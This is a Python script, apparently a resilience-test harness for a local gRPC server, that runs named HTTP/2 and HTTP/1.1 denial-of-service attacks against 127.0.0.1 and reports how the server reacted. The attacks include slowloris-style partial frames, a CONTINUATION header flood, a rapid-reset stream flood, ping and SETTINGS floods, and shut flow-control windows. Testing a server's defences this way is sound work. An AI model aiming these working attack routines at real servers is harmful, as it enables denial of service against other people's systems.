#!/usr/bin/env python3
"""Connections that do what no client does, one kind of them for each name.

    attack.py NAME PORT CONNECTIONS

Says `ready` once it has done what it came for, holds what it holds until its standard input ends, and then tells in JSON what
became of each connection: the seconds until the server closed it, or null, and what its calls were answered.
"""

import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
SERVICE = "/herald.v1.CacheService/"
stopped = threading.Event()


class Client:
    """A connection with HTTP/2's own rules kept, but for those that an attack breaks."""

    def __init__(self, port, window=None):
        self.began = time.monotonic()
        self.closed = None
        self.answers = {}
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        config = h2.config.H2Configuration(header_encoding="utf-8", validate_outbound_headers=False)
        self.http = h2.connection.H2Connection(config=config)
        if window is not None:
            settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
            self.http.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.http.initiate_connection()
        self.flush()

    def head(self, path, end=False):
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", "127.0.0.1"),
                (":path", path),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                ("x-user-id", "attacker"),
            ],
            end_stream=end,
        )
        return stream

    def call(self, path, message):
        stream = self.head(path)
        self.http.send_data(stream, b"\0" + len(message).to_bytes(4, "big") + message, end_stream=True)
        self.flush()
        return stream

    def flush(self):
        data = self.http.data_to_send()
        if data and self.closed is None:
            try:
                self.socket.sendall(data)
            except OSError:
                self.gone()

    def gone(self):
        if self.closed is None:
            self.closed = round(time.monotonic() - self.began, 2)

    def pump(self, seconds):
        """Takes what comes, for so long at most; pings are answered, windows stay as they are."""
        until = time.monotonic() + seconds
        while self.closed is None and (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65536)
            except TimeoutError:
                return
            except OSError:
                return self.gone()
            if not data:
                return self.gone()
            try:
                events = self.http.receive_data(data)
            except h2.exceptions.ProtocolError:
                return self.gone()
            for event in events:
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    status = dict(event.headers).get("grpc-status")
                    if status is not None:
                        self.answers[event.stream_id] = status
                elif isinstance(event, h2.events.StreamReset):
                    self.answers.setdefault(event.stream_id, f"reset {int(event.error_code)}")
            self.flush()

    def hold(self):
        while not stopped.is_set() and self.closed is None:
            self.pump(0.2)
        return self.told()

    def told(self):
        return {"closed": self.closed, "answers": list(self.answers.values())}


def raw(port, data, after=None):
    """A connection on which so much is sent and then nothing; `after`: what is sent once something was answered."""
    began = time.monotonic()
    it = socket.create_connection(("127.0.0.1", port), timeout=10)
    it.sendall(data)
    if after is not None:
        it.recv(65536)
        time.sleep(0.3)
        began = time.monotonic()
        it.sendall(after)
    while not stopped.is_set():
        it.settimeout(0.2)
        try:
            if not it.recv(65536):
                return {"closed": round(time.monotonic() - began, 2)}
        except TimeoutError:
            pass
        except OSError:
            return {"closed": round(time.monotonic() - began, 2)}
    return {"closed": None}


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def first_call(port):
    """The bytes of a whole call, after which more may follow."""
    client = h2.connection.H2Connection(config=h2.config.H2Configuration(header_encoding="utf-8"))
    client.initiate_connection()
    head = [(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", "/herald.v1.TenantService/GetCaller")]
    head += [("content-type", "application/grpc"), ("te", "trailers"), ("x-user-id", "attacker")]
    client.send_headers(1, head)
    client.send_data(1, b"\0\0\0\0\0", end_stream=True)
    return client.data_to_send()


# Each is given the port, and what to call once it is in its place.


def windows(port, ready):
    """Fifty calls for large answers, none of which may be sent: the windows stay shut."""
    client = Client(port, window=0)
    for _ in range(25):
        client.call(SERVICE + "GetCacheEntry", b"\x0a\5large")
        # A thousand rows, all of each.
        client.call("/herald.v1.AgentService/ListProspects", b"\x08\xe8\x07\x58\x02")
    client.pump(3)
    ready()
    return client.hold()


def one_byte(port, ready):
    ready()
    return raw(port, b"P")


def half_preface(port, ready):
    ready()
    return raw(port, PREFACE[:20])


def half_frame(port, ready):
    ready()
    return raw(port, PREFACE + SETTINGS + b"\0\0\x10\1")


def half_head(port, ready):
    """A head whose end is never told."""
    ready()
    return raw(port, PREFACE + SETTINGS + frame(1, 0, 1, b"\x83"))


def half_payload(port, ready):
    ready()
    return raw(port, PREFACE + SETTINGS + frame(1, 4, 1, bytes(100))[:30])


def later_half_head(port, ready):
    """The same after a whole call."""
    ready()
    return raw(port, first_call(port), frame(1, 0, 3, b"\x83"))


def later_half_frame(port, ready):
    ready()
    return raw(port, first_call(port), b"\0\0\x10\1")


def http1_half_head(port, ready):
    ready()
    return raw(port, b"POST /herald.v1.TenantService/GetCaller HTTP/1.1\r\nhost: 127.0.0.1\r\n")


def http1_later_half_head(port, ready):
    whole = b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
    ready()
    return raw(port, whole, b"GET / HTTP/1.1\r\nhost: 127")


def drip(port, ready, whole, first, piece):
    """A head of which a piece comes now and then, for ever; after whole calls, if there are any."""
    it = socket.create_connection(("127.0.0.1", port), timeout=10)
    if whole:
        it.sendall(whole)
        it.recv(65536)
        time.sleep(0.3)
    began = time.monotonic()
    ready()
    try:
        it.sendall(first)
        it.settimeout(0.2)
        while not stopped.is_set():
            it.sendall(piece)
            try:
                if not it.recv(65536):
                    break
            except TimeoutError:
                pass
        else:
            return {"closed": None}
    except OSError:
        pass
    return {"closed": round(time.monotonic() - began, 2)}


def dripping_head(port, ready):
    return drip(port, ready, b"", PREFACE + SETTINGS + frame(1, 0, 1, b"\x83"), frame(9, 0, 1, b"\x86"))


def later_dripping_head(port, ready):
    return drip(port, ready, first_call(port), frame(1, 0, 3, b"\x83"), frame(9, 0, 3, b"\x86"))


def http1_dripping_head(port, ready):
    return drip(port, ready, b"", b"GET / HTTP/1.1\r\n", b"x-a: b\r\n")


def http1_later_dripping_head(port, ready):
    return drip(port, ready, b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n", b"GET / HTTP/1.1\r\n", b"x-a: b\r\n")


def no_call(port, ready):
    """Pings, and never a call."""
    return drip(port, ready, b"", PREFACE + SETTINGS, frame(6, 0, 0, bytes(8)))


def unread(port, ready, piece):
    """Frames that ask for answers, none of which is read; three seconds of them."""
    it = socket.create_connection(("127.0.0.1", port), timeout=10)
    it.sendall(PREFACE + SETTINGS)
    it.settimeout(0.5)
    began, sent, closed, many = time.monotonic(), 0, None, piece * 1000
    while time.monotonic() - began < 3:
        try:
            # From where the last one was cut.
            sent += it.send(many[sent % len(piece) :])
        except TimeoutError:
            pass
        except OSError:
            closed = round(time.monotonic() - began, 2)
            break
    ready()
    stopped.wait()
    return {"closed": closed, "sent": sent}


def pings(port, ready):
    return unread(port, ready, frame(6, 0, 0, bytes(8)))


def settings(port, ready):
    return unread(port, ready, frame(4, 0, 0, b"\0\4\0\0\xff\xff"))


def endless_head(port, ready):
    """A head that goes on in CONTINUATION frames, 64 MiB of it if it is let."""
    it = socket.create_connection(("127.0.0.1", port), timeout=10)
    began, sent = time.monotonic(), 0
    lines = b"\0\1a\1b" * 3000
    try:
        it.sendall(PREFACE + SETTINGS + frame(1, 0, 1, b"\x83\x86\x84"))
        while sent < 64 << 20 and not stopped.is_set():
            it.sendall(frame(9, 0, 1, lines))
            sent += len(lines)
        ready()
        return {"closed": None, "sent": sent}
    except OSError:
        ready()
        return {"closed": round(time.monotonic() - began, 2), "sent": sent}


def slow_body(port, ready):
    """Messages of four megabytes announced, and a byte of them now and then."""
    client = Client(port)
    streams = [client.head(SERVICE + "SetCacheEntry") for _ in range(20)]
    for stream in streams:
        client.http.send_data(stream, b"\0" + (4 << 20).to_bytes(4, "big"))
    client.flush()
    ready()
    while not stopped.is_set() and client.closed is None:
        for stream in streams:
            if stream not in client.answers:
                try:
                    client.http.send_data(stream, b"\0")
                except h2.exceptions.ProtocolError:
                    pass
        client.flush()
        client.pump(0.3)
    return client.told()


def flood(port, ready, path):
    """A thousand heads, each with its call taken back in the next frame; made by hand, since the library is slow."""
    began, made = time.monotonic(), 0
    it = socket.create_connection(("127.0.0.1", port), timeout=10)
    encoder = hpack.Encoder()
    try:
        it.sendall(PREFACE + SETTINGS)
        for made in range(1, 1001):
            head = [(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path(made))]
            # Never indexed, so that each is sent whole.
            head = [hpack.NeverIndexedHeaderTuple(*line) for line in head + [("content-type", "application/grpc"), ("x-user-id", "attacker")]]
            stream = 2 * made - 1
            it.sendall(frame(1, 4, stream, encoder.encode(head, huffman=False)) + frame(3, 0, stream, b"\0\0\0\x08"))
        it.settimeout(1)
        while it.recv(65536):
            pass
        closed = round(time.monotonic() - began, 2)
    except TimeoutError:
        closed = None
    except OSError:
        closed = round(time.monotonic() - began, 2)
    ready()
    return {"closed": closed, "made": made}


def resets(port, ready):
    """Calls that are taken back at once."""
    return flood(port, ready, lambda _: SERVICE + "GetCacheEntry")


def names(port, ready):
    """The same of methods that nobody has, with names of twelve kilobytes."""
    return flood(port, ready, lambda n: f"/grpc.health.v1.Health/planted{n}" + "x" * 12000)


def crowd(port, ready):
    """A connection that says hello and no more."""
    try:
        it = socket.create_connection(("127.0.0.1", port), timeout=10)
        it.sendall(PREFACE + SETTINGS)
        it.settimeout(1)
        taken = bool(it.recv(1))
    except OSError:
        taken = False
    ready()
    stopped.wait()
    # One that was taken may have had to make room since.
    return {"taken": taken and still_open(it)}


def still_open(it):
    it.setblocking(False)
    try:
        while it.recv(1 << 16):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def main():
    name, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = globals()[name]
    told, places = [], threading.Semaphore(0)

    def run():
        try:
            told.append(attack(port, places.release))
        except OSError as error:
            told.append({"closed": 0, "error": str(error)})
            places.release()

    threads = [threading.Thread(target=run, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for _ in threads:
        places.acquire()
    print("ready", flush=True)
    sys.stdin.read()
    stopped.set()
    for thread in threads:
        thread.join(15)
    print(json.dumps(told), flush=True)


main()
